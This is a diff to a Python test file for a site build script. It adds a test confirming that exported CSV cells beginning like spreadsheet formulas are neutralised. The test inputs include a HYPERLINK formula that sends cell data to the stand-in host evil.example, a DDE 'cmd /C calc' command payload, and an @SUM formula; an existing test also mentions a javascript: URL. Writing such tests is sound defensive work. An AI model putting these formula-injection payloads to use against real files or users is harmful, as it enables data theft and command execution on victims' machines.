@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import re
 from html.parser import HTMLParser
@@ -334,3 +336,19 @@ def test_dangerous_base_url_flag_is_refused(tmp_path: Path):
     assert (result.code, result.err) == (1, "error: argument --base-url: 'javascript:alert(1)//' is not an http:// or "
                                             "https:// address (see python build.py --help)\n")
     assert not (root / "site").exists()
+
+
+def test_csv_cells_that_start_like_a_formula_are_made_inert(tmp_path: Path):
+    # A spreadsheet runs =, +, -, @ (and tab, CR) at a cell's start: an editor's text must stay text.
+    root = minimal_project(tmp_path / "project")
+    claims = root / "content" / "flood" / "claims.yaml"
+    edit(claims, "claimant: Alpha", "claimant: '=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")'")
+    edit(claims, "claimant: Beta", "claimant: '-2+3+cmd|'' /C calc''!A0'")
+    edit(claims, "{measure: River rise, value: 3}", "{measure: '@SUM(1+1)', value: 3}")
+    result = run_build(root)
+    assert result.code == 0, result.err
+    rows = list(csv.reader(io.StringIO((root / "site" / "flood" / "data" / "claims.csv").read_text(encoding="utf-8"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
+    assert "'-2+3+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
